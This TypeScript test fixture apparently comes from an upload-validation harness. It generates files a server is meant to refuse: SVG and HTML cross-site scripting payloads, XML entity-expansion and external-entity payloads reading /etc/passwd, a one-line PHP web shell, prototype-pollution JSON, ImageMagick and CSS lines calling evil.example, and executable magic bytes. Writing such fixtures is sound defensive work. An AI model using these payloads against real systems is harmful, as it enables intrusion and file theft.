import { gzipSync } from "node:zlib";
import type { Random } from "../../harness/random.ts";
import { MARK, type Named, type Sent, sent } from "./sent.ts";
import { zip } from "./zip.ts";

const SVG = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"';
const SVGS = [
  `<svg ${SVG}><script>alert("${MARK}")</script></svg>`,
  `<svg ${SVG} onload="alert('${MARK}')"/>`,
  `<svg ${SVG}><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><iframe srcdoc="${MARK}"/></body></foreignObject></svg>`,
  `<svg ${SVG}><use xlink:href="data:image/svg+xml,${MARK}#x"/><image xlink:href="http://127.0.0.1/${MARK}"/></svg>`,
  `<svg ${SVG}><a xlink:href="javascript:alert('${MARK}')"><rect width="9" height="9"/></a></svg>`,
];
const BEFORE_SVG = [
  "",
  "\ufeff",
  "\n\n\t ",
  "<!-- a picture -->",
  '<?xml version="1.0" standalone="no"?>',
  `<!DOCTYPE svg [<!ENTITY mark SYSTEM "file:///etc/${MARK}">]>`,
];

const HTMLS = [
  `<script>alert("${MARK}")</script>`,
  `<img src=x onerror="alert('${MARK}')">`,
  `<iframe src="javascript:alert('${MARK}')"></iframe>`,
  `<meta http-equiv="refresh" content="0;url=data:text/html,${MARK}">`,
  `<form action="https://evil.example"><input name="${MARK}"></form>`,
];
const BEFORE_HTML = ["", "<!doctype html>", "<html><body>", "\ufeff \n"];

const XMLS = [
  `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "${MARK}"><!ENTITY c "${"&b;".repeat(100)}">]><a>${"&c;".repeat(100)}</a>`,
  `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;${MARK}</a>`,
  `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#${MARK}"?><a/>`,
  `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>${MARK}</script></html>`,
  `<?xml version="1.0"?><rss><channel><title>${MARK}</title></channel></rss>`,
];

/** The first bytes of files of refused kinds. */
const BEGINNINGS: readonly (readonly [string, string])[] = [
  ["a PDF", `%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(alert)>>>>endobj\n%%EOF`],
  ["a Windows program", "MZ\x90\0\x03\0\0\0"],
  ["a Linux program", "\x7fELF\x02\x01\x01"],
  ["PHP", `<?php system($_GET["c"]); ?>`],
  ["a shell script", "#!/bin/sh\necho"],
  ["JavaScript", "alert(1)//"],
  ["a style sheet", "@import url(//evil.example);"],
  ["JSON", '{"__proto__":{"isAdmin":true}}'],
  ["WebAssembly", "\0asm\x01\0\0\0"],
  ["a Java class", "\xca\xfe\xba\xbe"],
  ["a bitmap", "BM6\0\0\0\0\0\0\0"],
  ["a TIFF", "II*\0\x08\0\0\0"],
  ["a TIFF of the other order", "MM\0*\0\0\0\x08"],
  ["an icon", "\0\0\x01\0\x01\0"],
  ["a Photoshop file", "8BPS\0\x01"],
  ["an AVIF", "\0\0\0\x20ftypavif\0\0\0\0"],
  ["a HEIC", "\0\0\0\x20ftypheic\0\0\0\0"],
  ["a JPEG XL", "\xff\x0a"],
  ["a JPEG 2000", "\0\0\0\x0cjP  \r\n\x87\n"],
  ["Flash", "CWS\x09"],
  ["a RAR", "Rar!\x1a\x07\x01\0"],
  ["a 7z", "7z\xbc\xaf\x27\x1c"],
  ["an old office file", "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"],
  ["a virtual picture", "VIPS"],
  ["a script for ImageMagick", "push graphic-context\nfill 'url(https://evil.example/)'"],
  ["a play list", "#EXTM3U\nfile:///etc/passwd"],
  ["words", "just words "],
];

/** File names and types that the documents are sent under, true and false ones. */
const NAMES: readonly Named[] = [
  { filename: "a.svg", type: "image/svg+xml" },
  { filename: "a.png", type: "image/png" },
  { filename: "a.html", type: "text/html" },
  { filename: "a.php.jpg", type: "image/jpeg" },
  { filename: "a", type: "application/octet-stream" },
  { filename: "a.gif", type: "image/gif" },
];

const pairs = (before: readonly string[], bodies: readonly string[]): string[] =>
  before.flatMap((start) => bodies.map((body) => `${start}${body}`));

/** Documents, programs and pictures of refused kinds: the server stores none of them. */
export function documents(random: Random): Sent[] {
  const refused = (name: string, content: Buffer | string): Sent =>
    sent(name, "refused", content, random.pick(NAMES));
  const [svg = ""] = SVGS;
  return [
    ...pairs(BEFORE_SVG, SVGS).map((text, index) => refused(`SVG ${index}`, text)),
    refused("SVG in UTF-16", Buffer.from(`\ufeff${svg}`, "utf16le")),
    refused("SVG, packed", gzipSync(svg)),
    ...pairs(BEFORE_HTML, HTMLS).map((text, index) => refused(`HTML ${index}`, text)),
    ...XMLS.map((text, index) => refused(`XML ${index}`, text)),
    ...BEGINNINGS.map(([name, text]) =>
      refused(name, Buffer.from(`${text}${MARK.repeat(1 + random.below(40))}`, "latin1")),
    ),
    refused("a zip", zip("a.html", Buffer.from(MARK))),
    refused("nothing", ""),
  ];
}
